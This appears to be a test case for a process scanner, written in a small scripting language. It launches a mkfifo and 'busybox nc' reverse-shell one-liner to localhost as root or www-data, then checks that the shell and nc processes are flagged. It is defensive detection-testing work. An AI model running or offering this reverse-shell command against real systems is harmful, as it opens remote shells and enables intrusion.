# id: K13
# mode: scan
# level: suspicious
# title: a shell behind a pipe to a program that holds the connection
# due: now
some_port port
pick user root www-data
other_end "$port" "$user"
start -u "$user" sh -c "mkfifo /tmp/.f; sh -i </tmp/.f 2>&1 | busybox nc 127.0.0.1 $port >/tmp/.f"
wait_for starts -f 'busybox nc'
wait_for sh -c "ss -Htn state established '( dport = :$port )' | grep -q ."
wait_for starts -xf 'sh -i'
said pid "$(pgrep -xf 'sh -i')"
said pid "$(pgrep -xf "busybox nc 127.0.0.1 $port")"
